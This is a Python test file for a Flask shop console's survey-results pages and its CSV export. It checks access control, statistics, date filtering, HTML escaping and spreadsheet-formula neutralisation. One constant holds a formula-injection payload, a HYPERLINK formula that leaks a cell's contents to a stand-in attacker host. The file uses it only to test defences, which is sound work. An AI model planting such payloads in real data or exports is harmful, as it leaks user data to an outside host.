"""The console's survey results (``/console/surveys``) on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import datetime
from zoneinfo import ZoneInfo

from flask import Flask
from flask.testing import FlaskClient
from markupsafe import escape
from sqlalchemy.engine import Engine
from sqlmodel import select

from flows.features.console import AuditEvent
from flows.features.surveys import models as store
from flows.features.surveys.models import StoredAnswer
from flows.features.surveys.web import bar
from storage.db import read_session, transaction
from tests.console.consolekit import Login

MADRID = ZoneInfo("Europe/Madrid")
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def respond(
    engine: Engine,
    wa_id: str,
    stars: int,
    nps: int,
    when: datetime,
    improve: str | None = None,
    comment: str | None = None,
) -> None:
    """A response to the example shop's ``feedback`` survey, completed at ``when``."""
    answers = [
        StoredAnswer("stars", "rating", stars),
        StoredAnswer("nps", "nps", nps),
        StoredAnswer("improve", "text", improve),
        StoredAnswer("comment", "text", comment),
    ]
    with transaction(engine) as session:
        store.record_response(
            session, "feedback", wa_id, answers, once_per_contact=True, now=when, source="keyword"
        )


def answered(engine: Engine) -> Engine:
    """Three responses: two on 2 November 2026 (Madrid), one on the 10th."""
    respond(engine, "34600000001", 5, 10, datetime(2026, 11, 2, 0, 30, tzinfo=MADRID))
    respond(
        engine,
        "34600000002",
        2,
        3,
        datetime(2026, 11, 2, 23, 50, tzinfo=MADRID),
        improve=EVIL,
        comment="<b>cold</b> & late",
    )
    respond(
        engine,
        "34600000003",
        4,
        9,
        datetime(2026, 11, 10, 12, 0, tzinfo=MADRID),
        comment="+1 lovely",
    )
    return engine


def section(text: str, element_id: str) -> str:
    """The HTML of the element with this id, up to its section's end."""
    start = text.index(f'id="{element_id}"')
    return text[start : text.index("</section>", start)]


def read(client: FlaskClient, path: str) -> tuple[int, str]:
    answer = client.get(path)
    return answer.status_code, html.unescape(answer.get_data(as_text=True))


def test_agents_and_strangers_are_refused(shop_app: Flask, logged_in: Login) -> None:
    agent = logged_in("agent")
    for path in ("/console/surveys", "/console/surveys/feedback", "/console/surveys/feedback.csv"):
        assert agent.get(path).status_code == 403, path
        stranger = shop_app.test_client().get(path)
        assert stranger.status_code == 302, path
        assert "/console/login" in stranger.headers["Location"]
    assert "/console/surveys" not in agent.get("/console/account").get_data(as_text=True)


def test_the_overview_lists_each_survey_with_its_response_count(
    logged_in: Login, shop_engine: Engine
) -> None:
    answered(shop_engine)

    status, text = read(logged_in("owner"), "/console/surveys")

    assert status == 200
    [row] = re.findall(r"<tr>\s*<td><a href=\"/console/surveys/feedback\">.*?</tr>", text, re.S)
    assert "Miga feedback" in row
    assert '<td class="num">3</td>' in row


def test_each_question_shows_its_distribution_average_and_nps(
    logged_in: Login, shop_engine: Engine
) -> None:
    answered(shop_engine)

    status, text = read(logged_in("owner"), "/console/surveys/feedback")

    assert status == 200
    assert "<strong>3</strong> response(s)." in text
    stars = section(text, "question-stars")
    assert "average 3.67" in stars
    rows = re.findall(
        r'<th scope="row">(\d+)</th>\s*<td class="bar-cell"><span class="bar (bar-\d+)"></span></td>'
        r'\s*<td class="num">(\d+)</td>\s*<td class="num">(\d+)%</td>',
        stars,
    )
    assert rows == [
        ("1", "bar-0", "0", "0"),
        ("2", "bar-35", "1", "33"),
        ("3", "bar-0", "0", "0"),
        ("4", "bar-35", "1", "33"),
        ("5", "bar-35", "1", "33"),
    ]
    nps = section(text, "question-nps")
    assert "Net Promoter Score" in nps
    assert "+33.3" in nps  # two promoters (10, 9), one detractor (3)
    assert "average 7.33" in nps
    assert "Free text" in section(text, "question-comment")
    assert "Net Promoter Score" not in stars


def test_bars_round_to_their_css_steps() -> None:
    assert [bar(0, 0), bar(0, 3), bar(1, 3), bar(2, 3), bar(3, 3), bar(1, 8), bar(1, 500)] == [
        "bar-0",
        "bar-0",
        "bar-35",
        "bar-65",
        "bar-100",
        "bar-10",
        "bar-5",  # small but not nothing
    ]


def test_the_responses_are_listed_with_the_customers_text_escaped(
    logged_in: Login, shop_engine: Engine
) -> None:
    answered(shop_engine)

    raw = logged_in("owner").get("/console/surveys/feedback").get_data(as_text=True)

    responses = section(raw, "responses")
    assert "<b>cold</b>" not in responses
    assert "&lt;b&gt;cold&lt;/b&gt; &amp; late" in responses
    assert str(escape(EVIL)) in responses
    assert "+34600000003" in responses
    assert "2026-11-02 23:50" in responses  # on the shop's clock
    assert responses.index("34600000003") < responses.index("34600000001")  # newest first


def test_a_date_range_keeps_the_responses_of_those_shop_days(
    logged_in: Login, shop_engine: Engine
) -> None:
    answered(shop_engine)

    status, text = read(
        logged_in("owner"), "/console/surveys/feedback?from=2026-11-02&to=2026-11-02"
    )

    assert status == 200
    assert re.search(r"<strong>2</strong> response\(s\) from 2026-11-02 to 2026-11-02", text)
    responses = section(text, "responses")
    assert "34600000001" in responses  # 00:30 in Madrid is still the 2nd (23:30 UTC the 1st)
    assert "34600000002" in responses
    assert "34600000003" not in responses
    assert "average 3.50" in section(text, "question-stars")
    assert 'href="/console/surveys/feedback.csv?from=2026-11-02&to=2026-11-02"' in text


def test_a_bad_range_is_a_message_not_an_error(logged_in: Login, shop_engine: Engine) -> None:
    answered(shop_engine)
    owner = logged_in("owner")
    for query, message in (
        ("from=2026-13-01", "The start date '2026-13-01' is not a date: use YYYY-MM-DD."),
        ("to=yesterday", "The end date 'yesterday' is not a date: use YYYY-MM-DD."),
        ("from=2026-11-10&to=2026-11-02", "The date range ends before it starts."),
        ("to=9999-12-31", "The end date must be within 100 years of today."),
    ):
        status, text = read(owner, f"/console/surveys/feedback?{query}")
        assert status == 400, query
        assert message in text, query
        assert "<strong>3</strong> response(s)." in text, query  # all time instead
        csv_status, csv_text = read(owner, f"/console/surveys/feedback.csv?{query}")
        assert csv_status == 400, query
        assert message in csv_text, query


def test_an_unknown_survey_is_a_404_page(logged_in: Login) -> None:
    owner = logged_in("owner")
    for path in ("/console/surveys/nope", "/console/surveys/nope.csv"):
        status, text = read(owner, path)
        assert status == 404, path
        assert "There is no survey named 'nope' in the business file." in text


def test_the_csv_export_is_safe_from_formulas_and_audited(
    logged_in: Login, shop_engine: Engine
) -> None:
    answered(shop_engine)

    answer = logged_in("owner").get("/console/surveys/feedback.csv")

    assert answer.status_code == 200
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="survey-feedback.csv"'
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert [row["contact"] for row in rows] == ["…0001", "…0002", "…0003"]
    assert rows[1]["improve"] == "'" + EVIL  # shown as text, never run
    assert rows[2]["comment"] == "'+1 lovely"
    assert rows[1]["comment"] == "<b>cold</b> & late"
    assert rows[0]["stars"] == "5"
    with read_session(shop_engine) as session:
        [event] = session.exec(select(AuditEvent).where(AuditEvent.action == "survey.export"))
    assert (event.staff_email, event.target) == ("owner@bakery.test", "feedback")
    assert event.detail == {"rows": 3, "full_numbers": False}


def test_the_csv_export_of_a_range_with_full_numbers(logged_in: Login, shop_engine: Engine) -> None:
    answered(shop_engine)

    answer = logged_in("owner").get(
        "/console/surveys/feedback.csv?from=2026-11-03&to=2026-11-30&numbers=full"
    )

    assert answer.headers["Content-Disposition"] == (
        'attachment; filename="survey-feedback-2026-11-03-2026-11-30.csv"'
    )
    [row] = csv.DictReader(io.StringIO(answer.get_data(as_text=True)))
    assert row["contact"] == "34600000003"
    with read_session(shop_engine) as session:
        [event] = session.exec(select(AuditEvent).where(AuditEvent.action == "survey.export"))
    assert event.detail == {
        "from": "2026-11-03",
        "to": "2026-11-30",
        "rows": 1,
        "full_numbers": True,
    }
